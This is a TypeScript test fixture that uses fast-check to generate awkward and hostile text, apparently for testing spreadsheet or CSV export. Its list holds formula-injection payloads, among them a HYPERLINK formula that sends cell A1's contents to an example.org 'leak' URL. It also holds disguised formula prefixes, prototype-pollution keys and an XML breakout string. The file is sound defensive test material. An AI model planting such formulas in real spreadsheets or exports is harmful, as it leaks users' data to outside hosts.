/** Texts that have broken files, and any others. */
import fc from 'fast-check';

export const hostile = [
  '=HYPERLINK("https://example.org?leak="&A1,"click")',
  '+1-1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\uFEFF=1+1',
  '\u200F=1+1',
  ' =1+1',
  "'=1+1",
  '＝1+1',
  'a;=1+1',
  'a;"=1+1',
  'a\n=1+1',
  'a\t-1',
  'She said "no", twice',
  'line\r\nbreak\rand\nbreak',
  'سوريا \u200Fوأذربيجان\u200E',
  'Əliyev, İlham',
  'half \uD83D of a letter',
  'nul \u0000 bell \u0007 escape \u001B next \u0085',
  '_x0041_',
  'constructor',
  '__proto__',
  '',
  ' ',
  ']]><f>1+1</f>',
  '&lt;&#0;',
];

export const anyText = fc.oneof(
  fc.constantFrom(...hostile),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);

/** Marks and letters that formulas, separators and quotes are made of, in every order. */
export const anyMarks = fc.string({
  unit: fc.constantFrom("'", '"', ';', ',', '\t', '\n', ' ', '=', '-', '@', '\u200F', 'a'),
  maxLength: 8,
});
